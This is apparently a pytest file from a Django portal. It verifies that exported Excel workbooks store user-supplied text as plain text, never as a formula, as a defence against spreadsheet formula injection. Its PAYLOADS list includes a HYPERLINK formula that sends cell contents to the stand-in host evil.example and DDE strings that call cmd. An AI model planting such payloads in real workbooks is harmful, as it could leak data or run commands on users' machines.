"""No workbook the portal hands out runs user text as a formula (issue 10).

The test fills the user text fields that end up in workbooks (employer names and addresses,
import errors, team names, answers, notes, 工作亮点, 主要问题, finding descriptions, plan names)
with formula payloads, then requests every route of the portal (each parameter tried with the
ids of the objects made here) as a superuser, and opens every response that is a workbook:
no cell may hold a formula, and the payloads must be there as text. It also checks that the
routes the issue names are among those found, and that no module but portal.workbook creates
an openpyxl Workbook."""

import io
import re
import uuid
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from inspections import services as inspection_services
from ledger import services as ledger_services
from ledger.models import EmployerRecord, ImportJob
from ledger.selectors import current_period
from portal.importing import error
from portal.models import Region
from portal.workbook import FORMULA_TRIGGERS
from tests.factories import make_user
from tests.inspections.factories import fill_all, make_world
from tests.ledger.factories import make_employer

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
NAMED = {"ledger/excel/export/", "ledger/excel/import/<int:pk>/errors.xlsx", "insurance/work-list/export.xlsx",
         "inspections/reports/<int:pk>/report.xlsx", "inspections/plans/<int:pk>/report.xlsx",
         "ledger/excel/template/", "insurance/coverage/import/template.xlsx", "dashboard/export/", "worklist/audit/"}


def walk(patterns, prefix=""):
    for entry in patterns:
        if isinstance(entry, URLResolver):
            yield from walk(entry.url_patterns, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            yield prefix + str(entry.pattern)


def urls_for(route: str, ids: list[int], tokens: list[str]) -> list[str]:
    """The route with each of its parameters filled by each candidate value."""
    if "^" in route or "(?P" in route:
        return []
    urls = ["/" + route]
    for match in re.finditer(r"<(?:(\w+):)?(\w+)>", route):
        converter = match.group(1) or "str"
        values = {"int": [str(i) for i in ids], "str": tokens, "uuid": [str(uuid.uuid4())],
                  "path": tokens}.get(converter, [])
        urls = [u.replace(match.group(0), v, 1) for u in urls for v in values]
    return urls


def cells_of(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


@pytest.fixture
def payload_world(settings, tmp_path, period_2020h1):  # noqa: F811
    settings.MEDIA_ROOT = tmp_path / "media"
    period = current_period()
    assert period == period_2020h1
    county = Region.objects.get(code="371502")
    clerk = make_user("371502", display_name="李娜")
    employers = [make_employer(county="371502", name=f"{payload}{i}", registered_address=payload,
                               business_scope=payload) for i, payload in enumerate(PAYLOADS)]
    for employer, payload in zip(employers, PAYLOADS, strict=True):
        type(employer).objects.filter(pk=employer.pk).update(legal_representative=payload[:20])
    ledger_services.period_open_county(actor=clerk, period=period, county=county)
    EmployerRecord.objects.filter(period=period).update(total_workers=100, insured_workers=10, test_lab=PAYLOADS[0])
    job = ImportJob.objects.create(created_by=clerk, province_id=county.parent.parent_id, city=county.parent,
                                   county=county, period=period, original_name="台帐.xlsx", status="invalid",
                                   errors=[error(5, "单位名称", p, p, p) for p in PAYLOADS])

    world = make_world()
    world.plan.name = PAYLOADS[0]
    world.plan.save(update_fields=["name"])
    world.team.name = PAYLOADS[1]
    world.team.save(update_fields=["name"])
    world.employer.name = PAYLOADS[2]
    world.employer.save(update_fields=["name"])
    text_items = {item.number: PAYLOADS[3] for item in world.unannounced.checklist_version.items()
                  if item.answer_type == "text"}
    fill_all(world.unannounced, world.member, value_for=text_items)
    inspection = inspection_services.inspection_for(world.unannounced)
    inspection = inspection_services.inspection_submit(actor=world.leader, inspection=inspection,
                                                       highlights=PAYLOADS[4], problems=PAYLOADS[5])
    ids = sorted({job.pk, world.plan.pk, inspection.pk, world.unannounced.pk, world.comprehensive.pk,
                  *(e.pk for e in employers), world.employer.pk})
    return {"ids": ids}


def test_no_workbook_holds_a_formula_from_user_text(payload_world, settings):
    from portal import exports

    admin = make_user(is_superuser=True)
    client = Client()
    client.force_login(admin)
    # A background export, written the same way, to reach its download route.
    token = "t" + uuid.uuid4().hex
    exports.run(token, "ledger", admin.pk, {})
    tokens = [token]

    workbooks: dict[str, list[bytes]] = {}
    for route in walk(get_resolver().url_patterns):
        if route.startswith(("admin/", "api/")) or "logout" in route:
            continue
        urls = urls_for(route, payload_world["ids"], tokens)
        if "<" not in route:  # a region's figures once one is chosen; pages that export on ?format=xlsx
            urls += [f"/{route}?region=371502", f"/{route}?format=xlsx"]
        for url in urls:
            response = client.get(url)
            if response.status_code != 200:
                continue
            body = b"".join(response.streaming_content) if response.streaming else response.content
            if body.startswith(b"PK") and "spreadsheetml" in response.get("Content-Type", ""):
                workbooks.setdefault(route, []).append(body)

    assert NAMED <= set(workbooks), f"workbook routes not reached: {NAMED - set(workbooks)}"
    formulas = []
    seen_payloads = set()
    for route, bodies in workbooks.items():
        for body in bodies:
            for cell in cells_of(body):
                if cell.data_type == "f":
                    formulas.append((route, cell.coordinate, cell.value))
                elif isinstance(cell.value, str) and cell.value in PAYLOADS or (
                        isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS)):
                    seen_payloads.add((route, cell.value))
    assert formulas == []
    # The payloads did reach the workbooks the issue names, as text.
    reached = {route for route, _value in seen_payloads}
    assert {"ledger/excel/export/", "ledger/excel/import/<int:pk>/errors.xlsx", "insurance/work-list/export.xlsx",
            "inspections/reports/<int:pk>/report.xlsx", "inspections/plans/<int:pk>/report.xlsx"} <= reached, reached


def test_only_portal_workbook_creates_workbooks():
    base = Path(settings.BASE_DIR)
    offenders = []
    for path in base.rglob("*.py"):
        relative = path.relative_to(base).as_posix()
        if relative.startswith((".venv/", "tests/", "node_modules/")) or relative == "portal/workbook.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(", text) or "from openpyxl import Workbook" in text:
            offenders.append(relative)
    assert offenders == []
